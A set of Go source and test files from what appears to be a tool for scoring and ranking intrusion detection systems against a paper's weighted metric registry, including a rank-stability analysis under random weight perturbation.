	srv, err := httpexport.Start(httpexport.Config{
		Addr:     o.Listen,
		Snapshot: o.Snapshot,
		Progress: o.progress,
		Flight:   reg.Flight,
		Log:      log,
	})
	if err != nil {
		return err
	}
	o.server = srv
	go func() {
		<-ctx.Done()
		sctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		defer cancel()
		_ = srv.Shutdown(sctx)
	}()
	return nil
}

// ServerAddr returns the live endpoint's bound address ("" when not
// serving) — tests and smoke drivers use it to find a :0 port.
func (o *ObsFlags) ServerAddr() string {
	if o.server == nil {
		return ""
	}
	return o.server.Addr()
}

// Finish exports the final state: Prometheus text to stderr under
// -telemetry, JSONL under -telemetry-jsonl, and the Chrome trace under
// -trace-out. snap overrides the snapshot source for this export only
// (pass nil to use the installed provider). No-op when collection is
// off; stdout is never touched.
func (o *ObsFlags) Finish(snap *obs.Snapshot) error {
	if !o.Collecting() {
		return nil
	}
	if snap == nil {
		snap = o.Snapshot()
	}
	if o.Telemetry {
		fmt.Fprintln(os.Stderr, "# telemetry snapshot")
		if err := snap.WritePrometheus(os.Stderr); err != nil {
			return err
		}
	}
	if o.JSONLPath != "" {
		if err := snap.WriteJSONLFile(o.JSONLPath); err != nil {
			return err
		}
	}
	if o.TraceOut != "" {
		if err := o.Registry().Flight().WriteChromeTraceFile(o.TraceOut); err != nil {
			return err
		}
	}
	return nil
}

// Close shuts the live endpoint down if it is still up (normal exits
// reach it before the context cancels). Safe to defer uncondition-
// ally.
func (o *ObsFlags) Close() {
	if o.server == nil {
		return
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	_ = o.server.Shutdown(ctx)
	o.server = nil
}
