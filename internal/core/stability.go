package core

import (
	"fmt"
	"math/rand"
	"sort"
)

// StabilityResult reports how robust a ranking is to weight perturbation.
// Section 3.3 concedes that "mapping these requirements to numeric
// weights will always be somewhat subjective"; this analysis quantifies
// how much that subjectivity can matter: each trial multiplies every
// weight by an independent factor drawn uniformly from
// [1−spread, 1+spread] and re-ranks.
type StabilityResult struct {
	// Trials is the number of perturbed rankings computed.
	Trials int
	// Spread is the relative perturbation applied.
	Spread float64
	// WinShare maps system -> fraction of trials it ranked first.
	WinShare map[string]float64
	// MeanRank maps system -> average rank (1 = best).
	MeanRank map[string]float64
	// Flips counts trials whose winner differed from the unperturbed
	// winner.
	Flips int
	// BaseWinner is the unperturbed first place.
	BaseWinner string
}

// Stable reports whether the base winner held first place in at least
// the given fraction of trials.
func (r *StabilityResult) Stable(threshold float64) bool {
	return r.WinShare[r.BaseWinner] >= threshold
}

// RankStability evaluates ranking robustness under random weight
// perturbation. The rng makes the analysis reproducible; spread is the
// relative weight jitter (0.2 = ±20%).
func RankStability(cards []*Scorecard, w Weights, spread float64, trials int, rng *rand.Rand) (*StabilityResult, error) {
	if len(cards) == 0 {
		return nil, fmt.Errorf("core: no scorecards")
	}
	if spread < 0 || spread >= 1 {
		return nil, fmt.Errorf("core: spread %v outside [0,1)", spread)
	}
	if trials <= 0 {
		return nil, fmt.Errorf("core: trials must be positive")
	}
	if rng == nil {
		return nil, fmt.Errorf("core: nil rng")
	}
	base, err := Rank(cards, w)
	if err != nil {
		return nil, err
	}
	res := &StabilityResult{
		Trials:     trials,
		Spread:     spread,
		WinShare:   make(map[string]float64),
		MeanRank:   make(map[string]float64),
		BaseWinner: base[0].System,
	}
	rankSum := make(map[string]float64)
	wins := make(map[string]int)

	ids := make([]string, 0, len(w))
	for id := range w {
		ids = append(ids, id)
	}
	sort.Strings(ids) // deterministic perturbation order

	for t := 0; t < trials; t++ {
		perturbed := make(Weights, len(w))
		for _, id := range ids {
			factor := 1 + spread*(2*rng.Float64()-1)
			perturbed[id] = w[id] * factor
		}
		ranked, err := Rank(cards, perturbed)
		if err != nil {
			return nil, err
		}
		wins[ranked[0].System]++
		if ranked[0].System != res.BaseWinner {
			res.Flips++
		}
		for pos, s := range ranked {
			rankSum[s.System] += float64(pos + 1)
		}
	}
	for _, c := range cards {
		res.WinShare[c.System] = float64(wins[c.System]) / float64(trials)
		res.MeanRank[c.System] = rankSum[c.System] / float64(trials)
	}
	return res, nil
}
