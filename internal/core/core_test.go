package core

import (
	"bytes"
	"math"
	"strings"
	"testing"
	"testing/quick"
)

func TestStandardRegistryBuilds(t *testing.T) {
	reg := StandardRegistry()
	if reg.Len() < 50 {
		t.Fatalf("registry has %d metrics, want the full paper set (>50)", reg.Len())
	}
}

func TestStandardRegistryTableCounts(t *testing.T) {
	reg := StandardRegistry()
	counts := map[Class]int{}
	tabled := map[Class]int{}
	for _, m := range reg.All() {
		counts[m.Class]++
		if m.InPaperTable {
			tabled[m.Class]++
		}
	}
	// Tables 1, 2, 3 have 6, 8, 12 metrics respectively.
	if tabled[Logistical] != 6 {
		t.Fatalf("Table 1 metrics = %d, want 6", tabled[Logistical])
	}
	if tabled[Architectural] != 8 {
		t.Fatalf("Table 2 metrics = %d, want 8", tabled[Architectural])
	}
	if tabled[Performance] != 12 {
		t.Fatalf("Table 3 metrics = %d, want 12", tabled[Performance])
	}
	// Plus the "defined but not included" lists: 8, 8, 10.
	if got := counts[Logistical] - tabled[Logistical]; got != 8 {
		t.Fatalf("untabled logistical = %d, want 8", got)
	}
	if got := counts[Architectural] - tabled[Architectural]; got != 8 {
		t.Fatalf("untabled architectural = %d, want 8", got)
	}
	if got := counts[Performance] - tabled[Performance]; got != 10 {
		t.Fatalf("untabled performance = %d, want 10", got)
	}
}

func TestRegistryRejectsDuplicatesAndInvalid(t *testing.T) {
	base := Metric{ID: "x", Name: "X", Class: Logistical, Description: "d", Methods: ByAnalysis}
	if _, err := NewRegistry([]Metric{base, base}); err == nil {
		t.Fatal("duplicate ID accepted")
	}
	bad := base
	bad.Class = Class(9)
	if _, err := NewRegistry([]Metric{bad}); err == nil {
		t.Fatal("invalid class accepted")
	}
	bad = base
	bad.Methods = 0
	if _, err := NewRegistry([]Metric{bad}); err == nil {
		t.Fatal("no-method metric accepted")
	}
	bad = base
	bad.Description = ""
	if _, err := NewRegistry([]Metric{bad}); err == nil {
		t.Fatal("uncharacteristic metric accepted")
	}
	bad = base
	bad.ID = ""
	if _, err := NewRegistry([]Metric{bad}); err == nil {
		t.Fatal("empty ID accepted")
	}
}

func TestAnchorsPresentForIllustratedMetrics(t *testing.T) {
	reg := StandardRegistry()
	for _, id := range []string{MDistributedManagement, MScalableLoadBalancing, MErrorReporting} {
		m, ok := reg.Get(id)
		if !ok {
			t.Fatalf("metric %q missing", id)
		}
		if m.Anchors.Low == "" || m.Anchors.Average == "" || m.Anchors.High == "" {
			t.Fatalf("metric %q missing its paper anchors", id)
		}
	}
}

func TestScoreValidation(t *testing.T) {
	reg := StandardRegistry()
	c := NewScorecard(reg, "sys", "1.0")
	if err := c.Set(Observation{MetricID: MTimeliness, Score: 5}); err == nil {
		t.Fatal("score 5 accepted")
	}
	if err := c.Set(Observation{MetricID: MTimeliness, Score: -1}); err == nil {
		t.Fatal("score -1 accepted")
	}
	if err := c.Set(Observation{MetricID: "no-such-metric", Score: 2}); err == nil {
		t.Fatal("unknown metric accepted")
	}
	if err := c.Set(Observation{MetricID: MTimeliness, Score: 3, How: ByAnalysis}); err != nil {
		t.Fatal(err)
	}
}

func TestMethodEnforcement(t *testing.T) {
	reg := StandardRegistry()
	c := NewScorecard(reg, "sys", "1.0")
	// Outsourced Solution is open-source-only in the registry.
	if err := c.Set(Observation{MetricID: MOutsourcedSolution, Score: 2, How: ByAnalysis}); err == nil {
		t.Fatal("disallowed method accepted")
	}
	if err := c.Set(Observation{MetricID: MOutsourcedSolution, Score: 2, How: ByOpenSource}); err != nil {
		t.Fatal(err)
	}
	// Zero method means "unspecified" and is accepted.
	if err := c.Set(Observation{MetricID: MTimeliness, Score: 2}); err != nil {
		t.Fatal(err)
	}
}

func TestMissingAndComplete(t *testing.T) {
	reg := StandardRegistry()
	c := NewScorecard(reg, "sys", "1.0")
	if c.Complete() {
		t.Fatal("empty scorecard reports complete")
	}
	for _, m := range reg.All() {
		if err := c.Set(Observation{MetricID: m.ID, Score: 2}); err != nil {
			t.Fatal(err)
		}
	}
	if !c.Complete() || len(c.Missing()) != 0 {
		t.Fatal("full scorecard reports incomplete")
	}
}

// figure5Fixture builds a small registry and scorecard for exact-sum tests.
func figure5Fixture(t *testing.T) (*Registry, *Scorecard) {
	t.Helper()
	reg, err := NewRegistry([]Metric{
		{ID: "l1", Name: "L1", Class: Logistical, Description: "d", Methods: ByAnalysis},
		{ID: "l2", Name: "L2", Class: Logistical, Description: "d", Methods: ByAnalysis},
		{ID: "a1", Name: "A1", Class: Architectural, Description: "d", Methods: ByAnalysis},
		{ID: "p1", Name: "P1", Class: Performance, Description: "d", Methods: ByAnalysis},
	})
	if err != nil {
		t.Fatal(err)
	}
	c := NewScorecard(reg, "sys", "1.0")
	for id, s := range map[string]Score{"l1": 4, "l2": 1, "a1": 3, "p1": 2} {
		if err := c.Set(Observation{MetricID: id, Score: s}); err != nil {
			t.Fatal(err)
		}
	}
	return reg, c
}

func TestFigure5WeightedScore(t *testing.T) {
	_, c := figure5Fixture(t)
	w := Weights{"l1": 2, "l2": 0.5, "a1": 1, "p1": 3}
	got, err := c.Evaluate(w)
	if err != nil {
		t.Fatal(err)
	}
	// S1 = 4*2 + 1*0.5 = 8.5; S2 = 3*1 = 3; S3 = 2*3 = 6; total 17.5.
	if got.ByClass[Logistical] != 8.5 || got.ByClass[Architectural] != 3 || got.ByClass[Performance] != 6 {
		t.Fatalf("class scores = %+v", got.ByClass)
	}
	if got.Total != 17.5 {
		t.Fatalf("total = %v", got.Total)
	}
}

func TestNegativeWeights(t *testing.T) {
	_, c := figure5Fixture(t)
	// Counterproductive feature: negative weight reduces the total.
	w := Weights{"l1": -1, "a1": 2}
	got, err := c.Evaluate(w)
	if err != nil {
		t.Fatal(err)
	}
	if got.Total != -4+6 {
		t.Fatalf("total with negative weight = %v, want 2", got.Total)
	}
}

func TestUnweightedMetricsIgnored(t *testing.T) {
	_, c := figure5Fixture(t)
	w := Weights{"p1": 1}
	got, err := c.Evaluate(w)
	if err != nil {
		t.Fatal(err)
	}
	if got.Total != 2 {
		t.Fatalf("total = %v, want 2", got.Total)
	}
}

func TestEvaluateMissingObservationFails(t *testing.T) {
	reg, err := NewRegistry([]Metric{
		{ID: "l1", Name: "L1", Class: Logistical, Description: "d", Methods: ByAnalysis},
	})
	if err != nil {
		t.Fatal(err)
	}
	c := NewScorecard(reg, "sys", "1.0")
	if _, err := c.Evaluate(Weights{"l1": 1}); err == nil {
		t.Fatal("evaluation with missing observation succeeded")
	}
}

func TestWeightsValidate(t *testing.T) {
	reg := StandardRegistry()
	if err := (Weights{"bogus": 1}).Validate(reg); err == nil {
		t.Fatal("unknown metric weight accepted")
	}
	if err := (Weights{MTimeliness: math.NaN()}).Validate(reg); err == nil {
		t.Fatal("NaN weight accepted")
	}
	if err := (Weights{MTimeliness: math.Inf(1)}).Validate(reg); err == nil {
		t.Fatal("Inf weight accepted")
	}
	if err := (Weights{MTimeliness: -2.5}).Validate(reg); err != nil {
		t.Fatalf("negative finite weight rejected: %v", err)
	}
}

func TestUniformWeightsCoverRegistry(t *testing.T) {
	reg := StandardRegistry()
	w := Uniform(reg)
	if len(w) != reg.Len() {
		t.Fatalf("uniform weights cover %d of %d metrics", len(w), reg.Len())
	}
}

func TestRankOrdersBestFirst(t *testing.T) {
	reg, err := NewRegistry([]Metric{
		{ID: "p1", Name: "P1", Class: Performance, Description: "d", Methods: ByAnalysis},
	})
	if err != nil {
		t.Fatal(err)
	}
	mk := func(name string, s Score) *Scorecard {
		c := NewScorecard(reg, name, "")
		if err := c.Set(Observation{MetricID: "p1", Score: s}); err != nil {
			t.Fatal(err)
		}
		return c
	}
	ranked, err := Rank([]*Scorecard{mk("low", 1), mk("high", 4), mk("mid", 2)}, Weights{"p1": 1})
	if err != nil {
		t.Fatal(err)
	}
	if ranked[0].System != "high" || ranked[1].System != "mid" || ranked[2].System != "low" {
		t.Fatalf("ranking = %v, %v, %v", ranked[0].System, ranked[1].System, ranked[2].System)
	}
}

func TestRankStableOnTies(t *testing.T) {
	reg, _ := NewRegistry([]Metric{
		{ID: "p1", Name: "P1", Class: Performance, Description: "d", Methods: ByAnalysis},
	})
	mk := func(name string) *Scorecard {
		c := NewScorecard(reg, name, "")
		c.Set(Observation{MetricID: "p1", Score: 2})
		return c
	}
	ranked, err := Rank([]*Scorecard{mk("first"), mk("second")}, Weights{"p1": 1})
	if err != nil {
		t.Fatal(err)
	}
	if ranked[0].System != "first" {
		t.Fatal("tie order not stable")
	}
}

// Property: evaluation is linear in the weights — scaling every weight by
// k scales every class score and the total by k.
func TestPropertyEvaluationLinear(t *testing.T) {
	_, c := figure5Fixture(t)
	base := Weights{"l1": 1.5, "l2": 2, "a1": -1, "p1": 0.25}
	s0, err := c.Evaluate(base)
	if err != nil {
		t.Fatal(err)
	}
	f := func(kRaw int8) bool {
		k := float64(kRaw)
		scaled := make(Weights, len(base))
		for id, v := range base {
			scaled[id] = v * k
		}
		s, err := c.Evaluate(scaled)
		if err != nil {
			return false
		}
		approx := func(a, b float64) bool { return math.Abs(a-b) < 1e-9 }
		return approx(s.Total, s0.Total*k) &&
			approx(s.ByClass[Logistical], s0.ByClass[Logistical]*k) &&
			approx(s.ByClass[Architectural], s0.ByClass[Architectural]*k) &&
			approx(s.ByClass[Performance], s0.ByClass[Performance]*k)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}

// Property: for valid observations and nonnegative weights, the total is
// bounded by MaxScore times the weight mass.
func TestPropertyTotalBounded(t *testing.T) {
	reg := StandardRegistry()
	f := func(scores []uint8, weightsRaw []uint8) bool {
		c := NewScorecard(reg, "sys", "")
		all := reg.All()
		w := make(Weights)
		var mass float64
		for i, m := range all {
			s := Score(0)
			if i < len(scores) {
				s = Score(scores[i] % 5)
			}
			if err := c.Set(Observation{MetricID: m.ID, Score: s}); err != nil {
				return false
			}
			wi := 1.0
			if i < len(weightsRaw) {
				wi = float64(weightsRaw[i] % 10)
			}
			w[m.ID] = wi
			mass += wi
		}
		got, err := c.Evaluate(w)
		if err != nil {
			return false
		}
		return got.Total >= 0 && got.Total <= float64(MaxScore)*mass+1e-9
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

func TestScorecardJSONRoundTrip(t *testing.T) {
	reg := StandardRegistry()
	c := NewScorecard(reg, "NetRecorder", "5.0")
	c.Set(Observation{MetricID: MTimeliness, Score: 3, How: ByAnalysis, Note: "mean 12ms"})
	c.Set(Observation{MetricID: MOutsourcedSolution, Score: 4, How: ByOpenSource})
	var buf bytes.Buffer
	if err := c.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	got, err := ReadScorecardJSON(&buf, reg)
	if err != nil {
		t.Fatal(err)
	}
	if got.System != "NetRecorder" || got.Version != "5.0" {
		t.Fatalf("meta = %q %q", got.System, got.Version)
	}
	o, ok := got.Get(MTimeliness)
	if !ok || o.Score != 3 || o.How != ByAnalysis || o.Note != "mean 12ms" {
		t.Fatalf("observation = %+v", o)
	}
}

func TestReadScorecardJSONRejectsInvalid(t *testing.T) {
	reg := StandardRegistry()
	cases := []string{
		`not json`,
		`{"observations": []}`, // no system
		`{"system":"x","observations":[{"metric":"bogus","score":1}]}`,
		`{"system":"x","observations":[{"metric":"timeliness","score":9}]}`,
		`{"system":"x","observations":[{"metric":"timeliness","score":2,"how":"psychic"}]}`,
	}
	for _, in := range cases {
		if _, err := ReadScorecardJSON(strings.NewReader(in), reg); err == nil {
			t.Fatalf("accepted %q", in)
		}
	}
}

func TestWeightsJSONRoundTrip(t *testing.T) {
	reg := StandardRegistry()
	w := Weights{MTimeliness: 6.5, MObservedFNRatio: 8, MOutsourcedSolution: -1}
	var buf bytes.Buffer
	if err := WriteWeightsJSON(&buf, w); err != nil {
		t.Fatal(err)
	}
	got, err := ReadWeightsJSON(&buf, reg)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 3 || got[MTimeliness] != 6.5 || got[MOutsourcedSolution] != -1 {
		t.Fatalf("weights = %v", got)
	}
}

func TestByClassOrdering(t *testing.T) {
	reg := StandardRegistry()
	per := reg.ByClass(Performance)
	if len(per) != 22 {
		t.Fatalf("performance metrics = %d, want 22", len(per))
	}
	for _, m := range per {
		if m.Class != Performance {
			t.Fatalf("ByClass returned %q of class %v", m.ID, m.Class)
		}
	}
}

func BenchmarkEvaluateFullScorecard(b *testing.B) {
	reg := StandardRegistry()
	c := NewScorecard(reg, "bench", "")
	for i, m := range reg.All() {
		c.Set(Observation{MetricID: m.ID, Score: Score(i % 5)})
	}
	w := Uniform(reg)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := c.Evaluate(w); err != nil {
			b.Fatal(err)
		}
	}
}

func TestDiffReportsChangedMetrics(t *testing.T) {
	reg := StandardRegistry()
	before := NewScorecard(reg, "X", "5.0")
	after := NewScorecard(reg, "X", "5.1")
	for _, m := range reg.All() {
		if err := before.Set(Observation{MetricID: m.ID, Score: 2}); err != nil {
			t.Fatal(err)
		}
		s := Score(2)
		if m.ID == MObservedFNRatio {
			s = 4 // the update improved detection
		}
		if err := after.Set(Observation{MetricID: m.ID, Score: s}); err != nil {
			t.Fatal(err)
		}
	}
	deltas, err := Diff(before, after)
	if err != nil {
		t.Fatal(err)
	}
	if len(deltas) != 1 {
		t.Fatalf("%d deltas, want 1", len(deltas))
	}
	if deltas[0].MetricID != MObservedFNRatio || deltas[0].Change != 2 {
		t.Fatalf("delta = %+v", deltas[0])
	}
}

func TestDiffHandlesMissingSides(t *testing.T) {
	reg := StandardRegistry()
	before := NewScorecard(reg, "X", "")
	after := NewScorecard(reg, "X", "")
	before.Set(Observation{MetricID: MTimeliness, Score: 3})
	after.Set(Observation{MetricID: MObservedFPRatio, Score: 1})
	deltas, err := Diff(before, after)
	if err != nil {
		t.Fatal(err)
	}
	if len(deltas) != 2 {
		t.Fatalf("%d deltas, want 2 one-sided", len(deltas))
	}
	for _, d := range deltas {
		if d.Change != 0 {
			t.Fatalf("one-sided delta has Change %d", d.Change)
		}
	}
}

func TestDiffRejectsDifferentRegistries(t *testing.T) {
	regA := StandardRegistry()
	regB := StandardRegistry()
	a := NewScorecard(regA, "X", "")
	b := NewScorecard(regB, "X", "")
	if _, err := Diff(a, b); err == nil {
		t.Fatal("cross-registry diff accepted")
	}
}

func TestDiffIdenticalCardsEmpty(t *testing.T) {
	reg := StandardRegistry()
	a := NewScorecard(reg, "X", "")
	b := NewScorecard(reg, "X", "")
	for _, m := range reg.All() {
		a.Set(Observation{MetricID: m.ID, Score: 3})
		b.Set(Observation{MetricID: m.ID, Score: 3})
	}
	deltas, err := Diff(a, b)
	if err != nil {
		t.Fatal(err)
	}
	if len(deltas) != 0 {
		t.Fatalf("identical cards produced %d deltas", len(deltas))
	}
}
