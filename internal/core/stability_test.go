package core

import (
	"math"
	"math/rand"
	"testing"
)

// stabilityFixture builds cards with a dominant, a runner-up, and a
// distant third.
func stabilityFixture(t *testing.T, gap Score) (*Registry, []*Scorecard, Weights) {
	t.Helper()
	reg, err := NewRegistry([]Metric{
		{ID: "p1", Name: "P1", Class: Performance, Description: "d", Methods: ByAnalysis},
		{ID: "p2", Name: "P2", Class: Performance, Description: "d", Methods: ByAnalysis},
	})
	if err != nil {
		t.Fatal(err)
	}
	mk := func(name string, s1, s2 Score) *Scorecard {
		c := NewScorecard(reg, name, "")
		if err := c.Set(Observation{MetricID: "p1", Score: s1}); err != nil {
			t.Fatal(err)
		}
		if err := c.Set(Observation{MetricID: "p2", Score: s2}); err != nil {
			t.Fatal(err)
		}
		return c
	}
	cards := []*Scorecard{
		mk("leader", 4, gap),
		mk("runner", 3, 3),
		mk("third", 1, 1),
	}
	return reg, cards, Weights{"p1": 2, "p2": 1}
}

func TestRankStabilityDominantWinnerIsStable(t *testing.T) {
	_, cards, w := stabilityFixture(t, 4) // leader: 12, runner: 9, third: 3
	res, err := RankStability(cards, w, 0.2, 500, rand.New(rand.NewSource(1)))
	if err != nil {
		t.Fatal(err)
	}
	if res.BaseWinner != "leader" {
		t.Fatalf("base winner = %s", res.BaseWinner)
	}
	if !res.Stable(0.95) {
		t.Fatalf("dominant winner unstable: share %.2f", res.WinShare["leader"])
	}
	if res.MeanRank["leader"] >= res.MeanRank["runner"] ||
		res.MeanRank["runner"] >= res.MeanRank["third"] {
		t.Fatalf("mean ranks out of order: %v", res.MeanRank)
	}
}

func TestRankStabilityNarrowMarginFlips(t *testing.T) {
	// leader 4,1 -> 2*4+1=9; runner 3,3 -> 9: exact tie at base, so any
	// perturbation decides — flips must be frequent.
	_, cards, w := stabilityFixture(t, 1)
	res, err := RankStability(cards, w, 0.25, 500, rand.New(rand.NewSource(2)))
	if err != nil {
		t.Fatal(err)
	}
	if res.Flips == 0 {
		t.Fatal("tied ranking never flipped under perturbation")
	}
	// Win shares sum to ~1 over the field.
	var sum float64
	for _, s := range res.WinShare {
		sum += s
	}
	if math.Abs(sum-1) > 1e-9 {
		t.Fatalf("win shares sum to %v", sum)
	}
	// "third" can never win.
	if res.WinShare["third"] != 0 {
		t.Fatalf("distant third won %.2f of trials", res.WinShare["third"])
	}
}

func TestRankStabilityValidation(t *testing.T) {
	_, cards, w := stabilityFixture(t, 4)
	rng := rand.New(rand.NewSource(1))
	if _, err := RankStability(nil, w, 0.1, 10, rng); err == nil {
		t.Fatal("empty cards accepted")
	}
	if _, err := RankStability(cards, w, -0.1, 10, rng); err == nil {
		t.Fatal("negative spread accepted")
	}
	if _, err := RankStability(cards, w, 1.0, 10, rng); err == nil {
		t.Fatal("spread 1.0 accepted")
	}
	if _, err := RankStability(cards, w, 0.1, 0, rng); err == nil {
		t.Fatal("zero trials accepted")
	}
	if _, err := RankStability(cards, w, 0.1, 10, nil); err == nil {
		t.Fatal("nil rng accepted")
	}
}

func TestRankStabilityDeterministicWithSeed(t *testing.T) {
	_, cards, w := stabilityFixture(t, 1)
	run := func() *StabilityResult {
		res, err := RankStability(cards, w, 0.3, 200, rand.New(rand.NewSource(9)))
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	a, b := run(), run()
	if a.Flips != b.Flips || a.WinShare["leader"] != b.WinShare["leader"] {
		t.Fatal("stability analysis nondeterministic under fixed seed")
	}
}

func TestRankStabilityZeroSpreadNeverFlips(t *testing.T) {
	_, cards, w := stabilityFixture(t, 4)
	res, err := RankStability(cards, w, 0, 50, rand.New(rand.NewSource(3)))
	if err != nil {
		t.Fatal(err)
	}
	if res.Flips != 0 || res.WinShare["leader"] != 1 {
		t.Fatalf("zero spread produced flips: %+v", res)
	}
}
