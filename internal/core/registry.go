package core

import (
	"fmt"
	"sort"
)

// Registry is the fixed metric standard the methodology evaluates every
// system against.
type Registry struct {
	byID  map[string]Metric
	order []string
}

// NewRegistry builds a registry from metric definitions, rejecting
// duplicate IDs and definitions that fail the "characteristic" check.
func NewRegistry(metrics []Metric) (*Registry, error) {
	r := &Registry{byID: make(map[string]Metric, len(metrics))}
	for _, m := range metrics {
		if m.ID == "" || m.Name == "" {
			return nil, fmt.Errorf("core: metric %+v needs ID and Name", m)
		}
		if _, dup := r.byID[m.ID]; dup {
			return nil, fmt.Errorf("core: duplicate metric ID %q", m.ID)
		}
		switch m.Class {
		case Logistical, Architectural, Performance:
		default:
			return nil, fmt.Errorf("core: metric %q has invalid class %d", m.ID, m.Class)
		}
		if m.Methods == 0 {
			return nil, fmt.Errorf("core: metric %q declares no observation method", m.ID)
		}
		if !m.Characteristic() {
			return nil, fmt.Errorf("core: metric %q fails the characteristic check", m.ID)
		}
		r.byID[m.ID] = m
		r.order = append(r.order, m.ID)
	}
	return r, nil
}

// Get looks up a metric by ID.
func (r *Registry) Get(id string) (Metric, bool) {
	m, ok := r.byID[id]
	return m, ok
}

// All returns every metric in definition order.
func (r *Registry) All() []Metric {
	out := make([]Metric, 0, len(r.order))
	for _, id := range r.order {
		out = append(out, r.byID[id])
	}
	return out
}

// ByClass returns the metrics of one class, in definition order.
func (r *Registry) ByClass(c Class) []Metric {
	var out []Metric
	for _, id := range r.order {
		if m := r.byID[id]; m.Class == c {
			out = append(out, m)
		}
	}
	return out
}

// Len returns the metric count.
func (r *Registry) Len() int { return len(r.order) }

// IDs returns all metric IDs sorted alphabetically.
func (r *Registry) IDs() []string {
	out := append([]string(nil), r.order...)
	sort.Strings(out)
	return out
}

// Metric IDs for the Table 1–3 metrics, exported as constants so harness
// code referencing them fails to compile rather than silently mis-keying.
const (
	// Logistical (Table 1).
	MDistributedManagement = "distributed-management"
	MEaseOfConfiguration   = "ease-of-configuration"
	MEaseOfPolicyMaint     = "ease-of-policy-maintenance"
	MLicenseManagement     = "license-management"
	MOutsourcedSolution    = "outsourced-solution"
	MPlatformRequirements  = "platform-requirements"
	// Architectural (Table 2).
	MAdjustableSensitivity = "adjustable-sensitivity"
	MDataPoolSelectability = "data-pool-selectability"
	MDataStorage           = "data-storage"
	MHostBased             = "host-based"
	MMultiSensorSupport    = "multi-sensor-support"
	MNetworkBased          = "network-based"
	MScalableLoadBalancing = "scalable-load-balancing"
	MSystemThroughput      = "system-throughput"
	// Performance (Table 3).
	MAnalysisOfCompromise = "analysis-of-compromise"
	MErrorReporting       = "error-reporting-and-recovery"
	MFirewallInteraction  = "firewall-interaction"
	MInducedLatency       = "induced-traffic-latency"
	MZeroLossThroughput   = "maximal-throughput-zero-loss"
	MNetworkLethalDose    = "network-lethal-dose"
	MObservedFNRatio      = "observed-false-negative-ratio"
	MObservedFPRatio      = "observed-false-positive-ratio"
	MOperationalImpact    = "operational-performance-impact"
	MRouterInteraction    = "router-interaction"
	MSNMPInteraction      = "snmp-interaction"
	MTimeliness           = "timeliness"
)

// StandardMetrics returns the complete metric set the paper defines: the
// Table 1–3 real-time subset with full definitions and anchors, plus every
// metric the paper names as "defined but not included in this paper".
func StandardMetrics() []Metric {
	both := ByAnalysis | ByOpenSource
	var ms []Metric

	// ---- Logistical, Table 1 ----
	ms = append(ms,
		Metric{
			ID: MDistributedManagement, Name: "Distributed Management", Class: Logistical,
			Description: "Capability of managing and monitoring the IDS securely from multiple possibly remote systems.",
			Methods:     both, InPaperTable: true,
			Anchors: Anchors{
				Low:     "Management of each node must be done at the node.",
				Average: "Nodes may be remotely managed, but either security, or degree of administrative control is limited.",
				High:    "Complete management of all nodes may be done from any node or remotely. Appropriate encryption and authentication are employed.",
			},
		},
		Metric{
			ID: MEaseOfConfiguration, Name: "Ease of Configuration", Class: Logistical,
			Description: "Difficulty in initially installing and subsequently configuring the IDS.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Products scoring low would be difficult to use in a distributed environment with multiple sensors.",
		},
		Metric{
			ID: MEaseOfPolicyMaint, Name: "Ease of Policy Maintenance", Class: Logistical,
			Description: "The ease of creating, updating, and managing IDS detection and reaction policies.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Multi-sensor distributed deployments multiply policy maintenance effort.",
		},
		Metric{
			ID: MLicenseManagement, Name: "License Management", Class: Logistical,
			Description: "The difficulty of obtaining, updating, and extending licenses for the IDS.",
			Methods:     both, InPaperTable: true,
			RealTimeNote: "Per-sensor licensing complicates scaling a distributed deployment.",
		},
		Metric{
			ID: MOutsourcedSolution, Name: "Outsourced Solution", Class: Logistical,
			Description: "The degree to which the IDS services are provided by an external entity.",
			Methods:     ByOpenSource, InPaperTable: true,
			RealTimeNote: "Random vendor vulnerability scanning could disrupt system performance in a way that is not locally controllable.",
		},
		Metric{
			ID: MPlatformRequirements, Name: "Platform Requirements", Class: Logistical,
			Description: "System resources actually required to implement the IDS in the expected environment.",
			Methods:     both, InPaperTable: true,
			RealTimeNote: "Indicates the system resources consumed in the resource-critical real-time environment.",
		},
	)

	// ---- Logistical, defined but not tabled ----
	for _, nt := range []struct{ id, name, desc string }{
		{"quality-of-documentation", "Quality of Documentation", "Completeness, accuracy, and usability of the product documentation."},
		{"ease-of-attack-filter-generation", "Ease of Attack Filter Generation", "Difficulty of authoring new attack filters or signatures for the IDS."},
		{"evaluation-copy-availability", "Evaluation Copy Availability", "Availability of a trial or evaluation copy for pre-purchase testing."},
		{"level-of-administration", "Level of Administration", "Ongoing administrator attention the IDS demands during operation."},
		{"product-lifetime", "Product Lifetime", "Expected support lifetime and upgrade path of the product."},
		{"quality-of-technical-support", "Quality of Technical Support", "Responsiveness and competence of vendor technical support."},
		{"three-year-cost", "Three Year Cost of Ownership", "Total acquisition, licensing, and operations cost over three years."},
		{"training-support", "Training Support", "Availability and quality of operator and administrator training."},
	} {
		ms = append(ms, Metric{
			ID: nt.id, Name: nt.name, Class: Logistical,
			Description: nt.desc, Methods: ByAnalysis | ByOpenSource,
		})
	}

	// ---- Architectural, Table 2 ----
	ms = append(ms,
		Metric{
			ID: MAdjustableSensitivity, Name: "Adjustable Sensitivity", Class: Architectural,
			Description: "Ability to change the sensitivity of the IDS to compensate for high false positive or false negative ratios.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Allows tuning the IDS to optimal performance for the real-time environment.",
		},
		Metric{
			ID: MDataPoolSelectability, Name: "Data Pool Selectability", Class: Architectural,
			Description: "Ability to define the source data to be analyzed for intrusions (by protocol, source and destination addresses, etc).",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Would allow the IDS to consider only protocols outside those typically used within the distributed cluster.",
		},
		Metric{
			ID: MDataStorage, Name: "Data Storage", Class: Architectural,
			Description: "Average required amount of storage per megabyte of source data.",
			Methods:     ByAnalysis, InPaperTable: true,
